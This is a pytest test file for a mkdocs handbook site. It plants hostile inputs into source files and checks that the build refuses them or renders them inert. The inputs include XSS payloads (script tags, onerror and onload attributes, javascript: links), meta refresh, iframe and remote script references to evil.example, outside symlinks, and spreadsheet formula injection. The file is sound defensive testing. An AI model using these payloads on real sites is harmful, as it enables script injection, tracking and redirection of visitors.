"""A corpus of hostile and odd sources, as an attacker with commit access or an editor pasting from
the web would write them, across every kind of source and mkdocs.yml.

Each payload is either refused by `make check` alone, with `path:line` and no traceback (and, for a
file outside the project, without a word of its content), or accepted as harmless: those are planted
together in one copy of the project, built once, and every built page is read for anything live.
"""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import build_site
from tests.support.live import live_things, redirect_scripts, sha256_source
from tests.support.project import copy_project, edit, problems_of

Plant = Callable[[Path], None]
SECRET = "secret-content-that-must-never-be-echoed"
CODE = "codes_of_practice/resources-and-procurement.yml"
CLAUSE_TEXT = "Public sector signatories will pay on time"
GUIDE = "guide/disputes.yml"
EXAMPLES = "guide/examples.yml"
REGISTER = "signatories/register.yml"
PAGE = "compact/context.md"
PARAGRAPH = "Partnership working is directed"
LETTER = "guide/letters/formal-response.md"
DOCS = "docs/about/accessibility.md"
CONFIG = "mkdocs.yml"


def replace(path: str, old: str, new: str) -> Plant:
    return lambda project: edit(project / path, old, new)


def before_paragraph(payload: str) -> Plant:
    """A payload as a block of its own, before a paragraph of a Compact page."""
    return replace(PAGE, PARAGRAPH, f"{payload}\n\n{PARAGRAPH}")


def in_clause(payload: str) -> Plant:
    return replace(CODE, CLAUSE_TEXT, f"{payload} {CLAUSE_TEXT}")


def in_letter(payload: str) -> Plant:
    return replace(LETTER, "[Date]", f"[Date]\n\n{payload}")


def in_docs(payload: str) -> Plant:
    return lambda project: (project / DOCS).write_text(
        (project / DOCS).read_text(encoding="utf-8") + f"\n{payload}\n", encoding="utf-8"
    )


def outside_file(project: Path) -> Path:
    secret = project.parent / "outside.txt"
    secret.write_text(f"title: {SECRET}\n{SECRET}\n", encoding="utf-8")
    return secret


def symlink(path: str) -> Plant:
    def plant(project: Path) -> None:
        (project / path).unlink(missing_ok=True)
        (project / path).symlink_to(outside_file(project))

    return plant


def deep_nesting(project: Path) -> None:
    depth = 5000
    with (project / CODE).open("a", encoding="utf-8") as code:
        code.write(f"\nextra: {'[' * depth}{']' * depth}\n")


def letter_named_with_a_line_end(project: Path) -> None:
    (project / "guide/letters/formal-response\n.md").write_text("---\ntitle: T\n---\n\nText.\n", encoding="utf-8")


def write(path: str, content: str | bytes) -> Plant:
    def plant(project: Path) -> None:
        (project / path).parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            (project / path).write_bytes(content)
        else:
            (project / path).write_text(content, encoding="utf-8")

    return plant


def in_config(old: str, new: str) -> Plant:
    return replace(CONFIG, old, new)


def redirect(line: str) -> Plant:
    return in_config("      redirect_maps: {}", f"      redirect_maps:\n        {line}")


REFUSED: dict[str, tuple[Plant, str]] = {
    # The Compact's pages: raw HTML, however it is written, links, attribute lists and titles.
    "page-img-onerror": (before_paragraph("<img/src=x onerror=alert(1)>"), PAGE),
    "page-tag-over-two-lines": (before_paragraph('<img\nsrc="x"\nonerror="alert(1)">'), PAGE),
    "page-meta-refresh": (before_paragraph('<meta/http-equiv=refresh content="0;url=https://evil.example">'), PAGE),
    "page-script": (before_paragraph("<script>alert(1)</script>"), PAGE),
    "page-comment": (before_paragraph("<!-- hidden -->"), PAGE),
    "page-javascript-link-mixed-case": (before_paragraph("[x](JaVaScRiPt:alert(1))"), PAGE),
    "page-javascript-link-with-slashes": (before_paragraph("[x](javascript://%0aalert(1))"), PAGE),
    "page-javascript-reference-link": (before_paragraph("[x][evil]\n\n[evil]: javascript:alert(1)"), PAGE),
    "page-data-link": (before_paragraph("[x](data:text/html,<script>alert(1)</script>)"), PAGE),
    "page-attr-list-onclick": (before_paragraph('Text.\n{: onclick="alert(1)" }'), PAGE),
    "page-attr-list-href": (before_paragraph('Text.\n{: href="javascript:alert(1)" }'), PAGE),
    "page-attr-list-id-breakout": (before_paragraph('## Heading {#id" onmouseover=alert(1)}'), PAGE),
    "page-attr-list-class-of-the-templates": (before_paragraph("Text.\n{: .editorial }"), PAGE),
    "page-entity-encoded-heading": (before_paragraph("## &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;"), PAGE),
    "page-escaped-heading": (before_paragraph("## \\</title\\>"), PAGE),
    "page-image-from-another-host": (before_paragraph("![x](https://evil.example/track.png)"), PAGE),
    "page-table-alignment-style": (before_paragraph("| a | b |\n|:-:|---|\n| 1 | 2 |"), PAGE),
    "page-nul-byte": (replace(PAGE, PARAGRAPH, f"\x00{PARAGRAPH}"), PAGE),
    "page-title-breakout": (replace(PAGE, "title: The Context", "title: </title><script>alert(1)</script>"), PAGE),
    "page-items-outside": (
        replace("compact/principles-and-commitments.md", "items: principles-and-commitments.yml", "items: ../../x.yml"),
        "compact/principles-and-commitments.md",
    ),
    "page-symlink-outside": (symlink(PAGE), PAGE),
    # Every YAML text field: codes, the guide, examples, the edition, the register.
    "clause-javascript-link": (in_clause("[pay](javascript:alert(1))"), CODE),
    "clause-inline-attr-onclick": (in_clause('*pay*{: onclick="alert(1)" }'), CODE),
    "clause-svg-onload": (in_clause("<svg/onload=alert(1)>"), CODE),
    "clause-title-entity": (replace(CODE, "title: Pay promptly", "title: Pay &lt;/title&gt;"), CODE),
    "clause-id-of-a-template-anchor": (replace(CODE, "id: rp-prompt-payment", "id: checklist"), CODE),
    "clause-nul-escape": (replace(CODE, "title: Pay promptly", 'title: "Pay\\0promptly"'), CODE),
    "code-deep-nesting": (deep_nesting, CODE),
    "guide-question-breakout": (
        replace(GUIDE, "question: Who is the disagreement between?", "question: Who? &lt;/title&gt;"),
        GUIDE,
    ),
    "guide-see-also-javascript": (
        replace(GUIDE, "(../compact/context.md)", "(javascript:alert(1))"),
        GUIDE,
    ),
    "guide-outcome-title-script": (
        replace(GUIDE, "title: You have agreed a way forward", "title: <script>alert(1)</script>"),
        GUIDE,
    ),
    "example-case-study-javascript": (
        replace(EXAMPLES, "case_study: ../compact/case-studies.md#grant-funding", "case_study: javascript:alert(1)"),
        EXAMPLES,
    ),
    "example-id-twice": (replace(EXAMPLES, "id: grant-funding", "id: review-of-services"), EXAMPLES),
    "example-id-of-the-page-heading": (replace(EXAMPLES, "id: grant-funding", "id: worked-examples"), EXAMPLES),
    "edition-note-iframe": (
        replace(
            "compact/edition.yml",
            "notes:\n",
            "notes:\n",
        ),
        "compact/edition.yml",
    ),
    "register-champion-img": (
        replace(REGISTER, "    name: HSE\n", "    name: HSE\n    champion: <img src=x onerror=alert(1)>\n"),
        REGISTER,
    ),
    # The letters.
    "letter-script": (in_letter("<script>alert(1)</script>"), LETTER),
    "letter-javascript-link": (in_letter("[reply](javascript:alert(1))"), LETTER),
    "letter-symlink-outside": (symlink(LETTER), LETTER),
    "letter-name-with-a-line-end": (letter_named_with_a_line_end, "guide/letters/formal-response\n.md"),
    # docs/, the hand-written pages.
    "docs-script": (in_docs("<script>alert(1)</script>"), DOCS),
    "docs-div-onclick": (in_docs('<div onclick="alert(1)" markdown>\n\nText.\n\n</div>'), DOCS),
    "docs-javascript-anchor": (in_docs('<a href="javascript:alert(1)">x</a>'), DOCS),
    "docs-meta-refresh": (in_docs('<meta http-equiv="refresh" content="0;url=https://evil.example">'), DOCS),
    "docs-title-breakout": (
        replace(DOCS, "title: Accessibility statement", "title: </title><script>alert(1)</script>"),
        DOCS,
    ),
    "docs-symlink-outside": (symlink("docs/secret.txt"), "docs/secret.txt"),
    "docs-link-to-no-page": (in_docs("[x](no-such-page.md)"), DOCS),
    "docs-link-to-no-anchor-of-a-generated-page": (in_docs("[x](this-edition.md#nowhere)"), DOCS),
    # mkdocs.yml.
    "config-stylesheet-from-another-host": (
        in_config("  - assets/stylesheets/handbook.css", "  - https://evil.example/x.css"),
        CONFIG,
    ),
    "config-script-from-another-host": (
        in_config("extra_css:", "extra_javascript:\n  - //evil.example/x.js\nextra_css:"),
        CONFIG,
    ),
    "config-copyright-script": (
        in_config("copyright: Darlington", "copyright: <script>alert(1)</script> Darlington"),
        CONFIG,
    ),
    "config-copyright-entity": (
        in_config(
            "copyright: Darlington Compact Steering Group,",
            'copyright: "&lt;b&gt;" # Darlington Compact Steering Group,',
        ),
        CONFIG,
    ),
    "config-site-url-javascript": (
        in_config("site_url: https://darlington-compact.example.org/", "site_url: javascript:alert(1)//"),
        CONFIG,
    ),
    "config-site-url-quote": (
        in_config("site_url: https://darlington-compact.example.org/", "site_url: 'https://x.example/\"><b>'"),
        CONFIG,
    ),
    "config-redirect-to-another-host": (redirect("old.md: https://evil.example/"), CONFIG),
    "config-redirect-to-no-page": (redirect("old.md: codes/volunteerin.md"), CONFIG),
    "config-redirect-from-a-page": (redirect("codes/volunteering.md: codes/partnerships.md"), CONFIG),
    "config-nav-javascript": (in_config("  - Downloads: downloads.md", "  - Downloads: javascript:alert(1)"), CONFIG),
    "config-snippets-extension": (in_config("  - admonition\n", "  - admonition\n  - pymdownx.snippets\n"), CONFIG),
    "config-inherit-outside": (in_config("site_name:", "INHERIT: ../outside.yml\nsite_name:"), CONFIG),
    "config-hook-outside": (in_config("  - build_scripts/engines/mkdocs_hooks.py", "  - /tmp/evil.py"), CONFIG),
}
# The edition's notes: an iframe in a note's text.
REFUSED["edition-note-iframe"] = (
    replace(
        "compact/edition.yml", "    text: >-\n", "    text: >-\n      <iframe src=https://evil.example></iframe>\n"
    ),
    "compact/edition.yml",
)


def test_the_corpus_covers_every_kind_of_source() -> None:
    paths = {path for _, path in REFUSED.values()}
    assert len(REFUSED) + len(HARMLESS) >= 40
    for kind in ("compact/", "codes_of_practice/", "guide/disputes", "guide/examples", "guide/letters/", "docs/"):
        assert any(path.startswith(kind) for path in paths), kind
    assert {"compact/edition.yml", REGISTER, CONFIG} <= paths


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_check_refuses_a_hostile_source_with_its_file_and_line(root: Path, tmp_path: Path, case: str) -> None:
    project = copy_project(root, tmp_path)
    plant, path = REFUSED[case]
    plant(project)
    problems = problems_of(project)
    assert problems, f"make check accepted {case}"
    assert any(re.match(rf"{re.escape(path)}:\d+: \S", p) for p in problems), "\n".join(problems)
    assert not any(SECRET in p for p in problems), "a message echoed a file outside the project"


HARMLESS: dict[str, Plant] = {
    "clause-text-with-markup-characters": in_clause("If a < b & c > d, javascript:alert(1) is text, {: not } too."),
    "code-title-with-braces-and-backslash": replace(
        "codes_of_practice/volunteering.yml", "title: Volunteering", 'title: "Volunteering {{ x }} {% y %} \\\\"'
    ),
    "code-summary-with-quotes": replace(
        "codes_of_practice/volunteering.yml",
        "summary: How partners",
        "summary: 'She said \"no\": {braces}, a # and a \\ backslash.' # How partners",
    ),
    "guide-title-with-braces-and-backslash": replace(
        GUIDE, "title: You have agreed a way forward", 'title: "Agreed: {a} \\"way\\" forward \\\\"'
    ),
    "register-formula-name": replace(
        REGISTER, "    name: HSE\n", '    name: "=HYPERLINK(\\"https://evil.example\\")"\n'
    ),
    "register-formula-champion": replace(
        REGISTER, "    name: Sport England\n", '    name: Sport England\n    champion: "@SUM(1+1)"\n'
    ),
    "page-links-to-other-sites-mail-and-phone": before_paragraph(
        "[A site](https://example.org/), [mail](mailto:someone@example.org), [phone](tel:+441325000000)."
    ),
    "docs-allowed-html": in_docs('<div class="admonition note" markdown>\n\nA **note**.\n\n</div>'),
    "redirect-to-a-generated-page-with-an-anchor": redirect(
        "old/volunteering.md: codes/volunteering.md#vo-open-to-all"
    ),
    "redirect-to-a-guide-step": redirect("old-step.md: guide/step/agreed-way-forward/index.md"),
}


@pytest.fixture(scope="module")
def harmless_site(root: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Every harmless payload planted in one copy of the project, built once (without PDFs): (project, site)."""
    project = copy_project(root, tmp_path_factory.mktemp("harmless"))
    plants = dict(HARMLESS)
    # Both redirects go into one map.
    del plants["redirect-to-a-guide-step"]
    plants["redirect-to-a-generated-page-with-an-anchor"] = redirect(
        "old/volunteering.md: codes/volunteering.md#vo-open-to-all\n"
        "        old-step.md: guide/step/agreed-way-forward/index.md"
    )
    for plant in plants.values():
        plant(project)
    os.environ["HANDBOOK_PDFS"] = "0"
    try:
        result = build_site(project, project / "site")
    finally:
        del os.environ["HANDBOOK_PDFS"]
    assert result.returncode == 0, result.stdout + result.stderr
    return project, project / "site"


def test_harmless_payloads_build_with_nothing_live_on_any_page(harmless_site: tuple[Path, Path]) -> None:
    project, site = harmless_site
    scripts = redirect_scripts(project)
    assert len(scripts) == 2
    trusted = {sha256_source(script) for script in scripts.values()}
    found = []
    for page in sorted(site.rglob("*.html")):
        relative = page.relative_to(site).as_posix()
        found += [f"{relative}: {thing}" for thing in live_things(page, trusted, redirect=relative in scripts)]
        assert 'http-equiv="Content-Security-Policy"' in page.read_text(encoding="utf-8"), relative
    assert found == []


def test_redirects_to_generated_pages_work_and_are_allowed_by_the_headers_policy(
    harmless_site: tuple[Path, Path],
) -> None:
    project, site = harmless_site
    headers = (site / "_headers").read_text(encoding="utf-8")
    for page, script in redirect_scripts(project).items():
        html = (site / page).read_text(encoding="utf-8")
        assert script in html, page
        assert sha256_source(script) in headers, f"{page}: its script is not allowed by _headers"
        assert sha256_source(script) in html.split('http-equiv="Content-Security-Policy"')[1].split(">")[0]


def test_spreadsheet_cells_are_never_formulas(harmless_site: tuple[Path, Path]) -> None:
    _, site = harmless_site
    rows = list(csv.DictReader(io.StringIO((site / "data/signatories.csv").read_text(encoding="utf-8"))))
    assert any(row["name"] == '\'=HYPERLINK("https://evil.example")' for row in rows)
    assert any(row["champion"] == "'@SUM(1+1)" for row in rows)
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]


def test_titles_with_braces_quotes_and_backslashes_are_written_as_they_are(harmless_site: tuple[Path, Path]) -> None:
    _, site = harmless_site
    code = (site / "codes/volunteering/index.html").read_text(encoding="utf-8")
    assert "Volunteering {{ x }} {% y %} \\: code of practice" in code
    assert 'content="She said &#34;no&#34;: {braces}, a # and a \\ backslash."' in code
    step = (site / "guide/step/agreed-way-forward/index.html").read_text(encoding="utf-8")
    assert '<title>Agreed: {a} "way" forward \\ - The Darlington Compact</title>' in step
